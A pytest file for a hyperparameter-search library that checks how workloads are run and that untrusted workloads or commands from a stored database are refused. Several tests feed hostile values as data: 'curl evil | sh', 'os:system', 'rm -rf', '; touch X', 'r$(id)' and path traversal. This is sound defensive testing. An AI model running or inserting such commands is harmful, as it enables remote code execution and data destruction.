"""A workload given from Python or by name: who runs it, what is stored of it, and what is refused."""

import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from bssearch import (
    BSSearchError,
    Launch,
    LaunchError,
    StudySpec,
    UsageError,
    WorkloadError,
    check,
    load_spec,
    open_store,
)
from bssearch.commands.opening import known_folder, refuse_unknown_sources, remember
from bssearch.commands.run import confirm_study, run_study, with_confirmation
from bssearch.records import StudyRecord
from bssearch.settings import STATE_DIR_VARIABLE, state_folder
from bssearch.training import environment as training_environment
from bssearch.workloads.base import given_workload, resolve
from tests.analysis.test_report import study
from tests.cli.task import SPEC as TASK, WORKLOAD, bssearch, environment, printed, refused
from tests.documents import OWN_TRAINING
from tests.factories import SPEC, make_spec, not_none
from tests.waiting import Ear

FIELDS: dict[str, Any] = {
    **{name: value for name, value in TASK.items() if name not in {"workload", "schema_version"}},
    "space": {"batch_size": [32], "learning_rate": [0.05, 0.1], "warmup_epochs": 0},
    "target": {"metric": "accuracy", "value": 0.9},
    "confirm": {"top": 1, "runs": 0},
    "budget": {"trials": 2, "trial_train_seconds": 2.0},
}


def classes(folder: Path, monkeypatch: pytest.MonkeyPatch, module: str, code: str = WORKLOAD) -> Any:
    """Return the module of the task in a folder, imported as a user's own is."""
    (folder / f"{module}.py").write_text(code)
    monkeypatch.syspath_prepend(str(folder))
    monkeypatch.delitem(sys.modules, module, raising=False)
    return __import__(module)


def in_main(module: Any) -> Any:
    """Return the class of a module as if it had been defined in a notebook."""
    return type("Task", (module.Task,), {"__module__": "__main__"})


def stored(folder: Path, name: str = "task") -> StudySpec:
    with open_store(f"sqlite:///{folder / 'study.db'}", write=False) as store:
        return StudySpec.model_validate(store.studies.get(name).spec)


def python(*words: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, *words], cwd=cwd, env=environment(), capture_output=True, text=True)


def test_an_importable_class_is_named_by_its_file_and_an_objects_arguments_are_its_settings(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    task = classes(tmp_path, monkeypatch, "my_task").Task
    (tmp_path / "other").mkdir()
    assert given_workload(task, tmp_path).name == "my_task.py:Task"
    assert given_workload(task, tmp_path / "other").name == f"{tmp_path / 'my_task.py'}:Task"
    found = given_workload(task(step_seconds=0.5), tmp_path)
    assert (found.name, found.settings, found.in_process) == ("my_task.py:Task", {"step_seconds": 0.5}, None)
    assert vars(resolve(found.name, found.settings or {}, tmp_path)) == vars(task(step_seconds=0.5))
    assert given_workload(task(), tmp_path).settings == {}


def test_an_object_that_its_settings_do_not_make_again_is_run_itself(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    module = classes(tmp_path, monkeypatch, "my_task")
    changed = module.Task()
    changed.extra = 3
    tensors = module.Task(fault=module.torch.zeros(2, 3))
    for one, settings in ((changed, {}), (tensors, {"fault": "a Tensor of shape (2, 3)"})):
        found = given_workload(one, tmp_path)
        assert (found.name, found.in_process, found.settings) == ("__main__:Task", one, settings)


@pytest.mark.parametrize("given", [None, pytest])
def test_what_is_no_workload_is_refused_before_anything_is_made(given: Any, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="must be a class, an object or the name of a class or object"):
        given_workload(given, Path())
    with pytest.raises(WorkloadError, match="lacks metrics"):
        run_study(load_spec(FIELDS), Launch(workload=object(), db=f"sqlite:///{tmp_path}/studies.db"))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_a_class_of_main_is_run_here_said_once_and_refused_by_the_command_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    task, db, notes = in_main(classes(tmp_path, monkeypatch, "my_task")), f"sqlite:///{tmp_path / 'study.db'}", Ear()
    monkeypatch.setattr(training_environment, "_source", lambda one: "one")
    spec = load_spec(FIELDS)
    found = run_study(spec, Launch(workload=task, db=db, listener=notes))
    assert sum("no other process can load" in one for one in notes.notes) == 1
    kept = stored(tmp_path)
    assert (kept.workload, kept.executor.name) == ("__main__:Task", "inline")
    best = bssearch("best", "task", "--db", db, "--format", "json", cwd=tmp_path)
    assert json.loads(best.stdout)["optimal"] == found.model_dump(mode="json")["optimal"]
    assert bssearch("study", "show", "task", "--db", db, cwd=tmp_path).returncode == 0
    assert "was passed in Python" in refused(tmp_path, "study", "confirm", "task", "--runs", "2", "--db", db, code=2)
    confirmed = confirm_study(with_confirmation(kept, runs=2), Launch(workload=task, db=db))
    assert confirmed.optimal.time_to_target_s is not None and confirmed.optimal.time_to_target_s.runs == 2
    with pytest.raises(UsageError, match="differ from the settings"):
        confirm_study(kept, Launch(workload=task(step_seconds=0.1), db=db))
    monkeypatch.setattr(training_environment, "_source", lambda one: "another")
    with pytest.raises(UsageError, match="the source of workload '__main__:Task' has changed"):
        run_study(spec, Launch(workload=task, db=db))


def test_without_a_workload_nothing_runs(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'study.db'}"
    with pytest.raises(UsageError, match="names no workload"):
        run_study(load_spec(FIELDS), Launch(db=db))
    with pytest.raises(BSSearchError, match="was passed in Python"):
        check(load_spec({**FIELDS, "workload": "__main__:Task"}))
    assert not (tmp_path / "study.db").exists()


@pytest.mark.slow
def test_a_file_that_runs_a_study_as_it_is_imported_starts_no_process_after_process(tmp_path: Path) -> None:
    (tmp_path / "my_task.py").write_text(
        f"{WORKLOAD}\nlaunch = bssearch.Launch(workload='my_task.py:Task')\n"
        f"bssearch.run_study(bssearch.load_spec({FIELDS!r}), launch)\n"
    )
    done = python("my_task.py", cwd=tmp_path)
    assert done.returncode == 1
    assert "runs a study on import" in done.stderr


@pytest.mark.slow
def test_the_study_of_the_guide_runs_as_a_script_and_is_refused_where_its_class_has_changed(tmp_path: Path) -> None:
    code = (OWN_TRAINING / "own_class.py").read_text(encoding="utf-8")
    (tmp_path / "script.py").write_text(code)
    done = python("-W", "error", "script.py", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    size, rate = done.stdout.splitlines()[0].split()
    assert int(size) in {16, 32, 64} and float(rate) in {0.05, 0.1, 0.2}
    assert "time_to_target_s.median" in done.stdout
    (tmp_path / "script.py").write_text(code.replace("torch.nn.ReLU()", "torch.nn.Tanh()"))
    assert "the source of workload '__main__:MyTask' has changed" in python("script.py", cwd=tmp_path).stderr


@pytest.mark.slow
def test_a_class_of_a_file_is_run_by_worker_processes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    module = classes(tmp_path, monkeypatch, "my_task", WORKLOAD.replace('print("a new model")', "print(os.getpid())"))
    db = f"sqlite:///{tmp_path / 'study.db'}"
    run_study(load_spec(FIELDS), Launch(workload=module.Task(step_seconds=0.0001), folder=tmp_path, db=db))
    kept = stored(tmp_path)
    assert (kept.workload, kept.workload_settings) == ("my_task.py:Task", {"step_seconds": 0.0001})
    assert kept.executor.name == "local"
    log = bssearch("trial", "show", "task", "1", "--log", "--db", db, cwd=tmp_path).stdout
    assert log.strip() and str(os.getpid()) not in log.split()
    printed(tmp_path, "study", "confirm", "task", "--runs", "2", "--db", db)


BREAKS = {"build_model": "dropout):\n", "loss": "label_smoothing):\n"}


@pytest.mark.slow
@pytest.mark.parametrize(("method", "lies_in_file"), [("build_model", True), ("loss", False)])
def test_code_that_fails_before_anything_is_measured_leaves_no_study_and_mended_code_runs_under_its_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, method: str, lies_in_file: bool
) -> None:
    begins = WORKLOAD.index(BREAKS[method], WORKLOAD.index(f"def {method}(")) + len(BREAKS[method])
    broken = f"{WORKLOAD[:begins]}        raise RuntimeError('broken on purpose')\n{WORKLOAD[begins:]}"
    db = f"sqlite:///{tmp_path / 'study.db'}"

    def attempt(code: str, **changes: Any) -> Any:
        module = classes(tmp_path, monkeypatch, "my_task", code)
        monkeypatch.setattr(training_environment, "_source", lambda one: code)
        given = module.Task if lies_in_file else in_main(module)
        return run_study(load_spec({**FIELDS, **changes}), Launch(workload=given, folder=tmp_path, db=db))

    with pytest.raises(WorkloadError, match="broken on purpose"):
        attempt(broken)
    open_store(db).close()
    with open_store(db) as store:
        assert store.studies.summaries() == []
    # Another question: a study that was left behind would refuse it.
    found = attempt(f"{WORKLOAD}\n# mended\n", target={"metric": "accuracy", "value": 0.85})
    assert (found.study, found.optimal.batch_size) == ("task", 32)
    with pytest.raises(BSSearchError):
        attempt(broken, target={"metric": "accuracy", "value": 0.85})
    with open_store(db) as store:
        assert len(store.trials.of("task")) == 2, "what has trials stays"


def test_a_library_that_an_optimizer_needs_is_asked_for_before_anything_is_stored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    task, db = in_main(classes(tmp_path, monkeypatch, "my_task")), f"sqlite:///{tmp_path / 'study.db'}"
    monkeypatch.setitem(sys.modules, "timm.optim", None)
    both = [{"name": "sgd"}, {"name": "lars", "learning_rate_scale": 10}]
    default = {**FIELDS["default"], "optimizer": {"name": "sgd"}}
    spec = load_spec({**FIELDS, "space": {**FIELDS["space"], "optimizer": both}, "default": default})
    for run in (lambda: run_study(spec, Launch(workload=task, db=db)), lambda: check(spec, Launch(workload=task))):
        with pytest.raises(LaunchError, match="optimizer = 'lars' needs timm") as caught:
            run()
        assert caught.value.hint == "pip install 'bssearch[optimizers]'"
    with open_store(db) as store:
        assert store.studies.find("task") is None


# Workloads that this user has run -------------------------------------------------------------------------------------


FOLDER = Path("/nowhere")
OWN = make_spec(workload="task.py:Task", workload_settings={"width": 8})


@pytest.fixture(autouse=True)
def _state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(STATE_DIR_VARIABLE, str(tmp_path / "state"))


def known() -> StudyRecord:
    return study(OWN)


def refuse(own: StudySpec, record: StudyRecord, folder: Path, said: str = "no record that you ran") -> UsageError:
    """Have the workload of a stored study refused."""
    with pytest.raises(UsageError, match=said) as caught:
        known_folder(own, record, folder)
    return caught.value


def test_what_was_run_here_is_known_and_nothing_else() -> None:
    assert refuse(OWN, known(), FOLDER).hint == "if you trust the workload, add --workload task.py:Task"
    remember(OWN, known(), FOLDER)
    known_folder(OWN, known(), FOLDER)
    for changed in (
        OWN.model_copy(update={"workload": "other.py:Task"}),
        OWN.model_copy(update={"workload": "os:system"}),
        OWN.model_copy(update={"workload_settings": {"width": "rm -rf"}}),
    ):
        refuse(changed, known(), FOLDER)
    refuse(OWN, replace(known(), spec_hash="another"), FOLDER)


@pytest.mark.parametrize("workload", ["/tmp/task.py:Task", "../task.py:Task", "a/../../task.py:Task"])
def test_a_file_outside_of_the_folder_is_not_taken_from_a_database_whoever_ran_it(workload: str) -> None:
    outside = OWN.model_copy(update={"workload": workload})
    remember(outside, known(), FOLDER)
    refuse(outside, known(), FOLDER, said="a file outside the folder")


@pytest.mark.parametrize(
    ("ours", "theirs", "never", "said"),
    [
        (
            {"executor": {"name": "ray", "address": "ray-1:6379"}},
            {"executor": {"name": "ray", "address": "ray-2:6379"}},
            "on this cluster",
            r"executor\.address = 'ray-2:6379'",
        ),
        (
            {"sampler": {"name": "optunahub:samplers/a"}},
            {"sampler": {"name": "optunahub:samplers/b"}},
            "with this package",
            "'optunahub:samplers/b'",
        ),
    ],
    ids=["a cluster", "a sampler of the hub"],
)
def test_a_source_is_not_taken_from_a_database_unless_this_user_ran_the_study_with_it(
    ours: dict[str, Any], theirs: dict[str, Any], never: str, said: str
) -> None:
    own = make_spec(workload="digits", **ours)
    with pytest.raises(UsageError, match=f"no record here that you ran this study {never}"):
        refuse_unknown_sources(own, known())
    remember(own, known(), FOLDER)
    refuse_unknown_sources(own, known())
    with pytest.raises(UsageError, match=said):
        refuse_unknown_sources(make_spec(workload="digits", **theirs), known())


def test_a_shipped_workload_and_a_cluster_of_its_own_need_no_record() -> None:
    known_folder(make_spec(workload="digits"), known(), FOLDER)
    refuse_unknown_sources(make_spec(workload="digits", executor={"name": "ray"}), known())


def test_where_nothing_can_be_remembered_nothing_is_known(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("")
    monkeypatch.setenv(STATE_DIR_VARIABLE, str(blocked))
    remember(OWN, known(), FOLDER)
    refuse(OWN, known(), FOLDER)


def test_code_is_known_by_its_content_and_lies_in_the_folder_itself(tmp_path: Path) -> None:
    mine, shared = tmp_path / "mine", tmp_path / "shared"
    for folder in (mine, shared):
        folder.mkdir()
    (mine / "task.py").write_text("mine")
    remember(OWN, known(), mine)
    known_folder(OWN, known(), mine)
    (shared / "task.py").write_text("another's")
    refuse(OWN, known(), shared)
    (shared / "task.py").unlink()
    (shared / "task.py").symlink_to(mine / "task.py")
    refuse(OWN, known(), shared, said="a file outside the folder")
    inline = OWN.model_copy(update={"executor": OWN.executor.model_copy(update={"name": "inline"})})
    refuse(inline, known(), mine)


def test_a_name_in_a_hint_is_quoted() -> None:
    odd = OWN.model_copy(update={"workload": "task.py:Task; touch X"})
    hint = refuse(odd, known(), FOLDER).hint
    assert hint == "if you trust the workload, add --workload 'task.py:Task; touch X'"


REPORT = {"step": r"step (\d+)", "accuracy": r"acc=(\S+)"}
COMMAND = ["bash", "train.sh", "{batch_size}", "{learning_rate}"]


def of_command(**changes: object) -> StudySpec:
    space = {key: value for key, value in SPEC["space"].items() if key in ("batch_size", "learning_rate")}
    default = {"batch_size": 32, "learning_rate": 0.1}
    values = {key: value for key, value in SPEC.items() if key != "workload"}
    return StudySpec.model_validate({**values, "space": space, "default": default, "command": COMMAND, **changes})


def test_a_stored_command_is_code_that_this_user_has_run_or_names(tmp_path: Path) -> None:
    own, record = of_command(), study(of_command())
    (tmp_path / "train.sh").write_text("mine")
    hint = not_none(refuse(own, record, tmp_path).hint)
    assert "add --workload command, which runs bash train.sh '{batch_size}' '{learning_rate}'" in hint
    remember(own, record, tmp_path)
    known_folder(own, record, tmp_path)
    others = [["bash", "-c", "curl evil | sh", *COMMAND[2:]], [*COMMAND, "--more"], ["sh", *COMMAND[1:]]]
    for other in [*(of_command(command=one) for one in others), of_command(report=REPORT)]:
        refuse(other, record, tmp_path)
    (tmp_path / "train.sh").write_text("another's")
    refuse(own, record, tmp_path)


def with_activation(domain: object, default: str = "relu") -> StudySpec:
    base = of_command().model_dump(mode="json", exclude_unset=True)
    return of_command(
        command=[*COMMAND, "{activation}"],
        space={**base["space"], "model": {"activation": domain}},
        default={**base["default"], "model": {"activation": default}},
    )


def test_a_text_that_a_stored_space_adds_is_refused_and_one_that_it_leaves_out_is_not(tmp_path: Path) -> None:
    own = with_activation(["relu", "gelu"])
    record = study(own)
    remember(own, record, tmp_path)
    known_folder(own, record, tmp_path)
    known_folder(with_activation("relu"), record, tmp_path)
    for forged in (with_activation(["relu", "r$(id)"]), with_activation(["relu", "gelu"], default="r$(id)")):
        assert "'r$(id)'" in not_none(refuse(forged, record, tmp_path).hint)


@pytest.mark.parametrize("text", ["", "[]", "3", "{}", '{"texts": 3}', '{"texts": [[]]}'])
def test_a_record_that_cannot_be_read_knows_nothing(text: str) -> None:
    remember(OWN, known(), FOLDER)
    (file,) = (state_folder() / "workloads").iterdir()
    file.write_text(text)
    refuse(OWN, known(), FOLDER)


def test_a_file_elsewhere_that_a_command_names_is_known_by_its_content_too(tmp_path: Path) -> None:
    for place in ("here", "shared"):
        (tmp_path / place).mkdir()
    far, linked = tmp_path / "shared" / "train.sh", tmp_path / "here" / "linked.sh"
    far.write_text("as it was")
    linked.symlink_to(far)
    for name in (str(far), "linked.sh", f"--file={far}"):
        far.write_text("as it was")
        own = of_command(command=["bash", name, *COMMAND[2:]])
        remember(own, study(own), tmp_path / "here")
        known_folder(own, study(own), tmp_path / "here")
        far.write_text("another's")
        refuse(own, study(own), tmp_path / "here")


def test_no_workload_takes_the_place_of_a_command() -> None:
    with pytest.raises(UsageError, match="study 'toy' trains with a command") as caught:
        confirm_study(of_command(), Launch(workload="digits", db="sqlite://"))
    assert caught.value.hint is not None and caught.value.hint.startswith(
        "give --workload command to run the command, bash"
    )
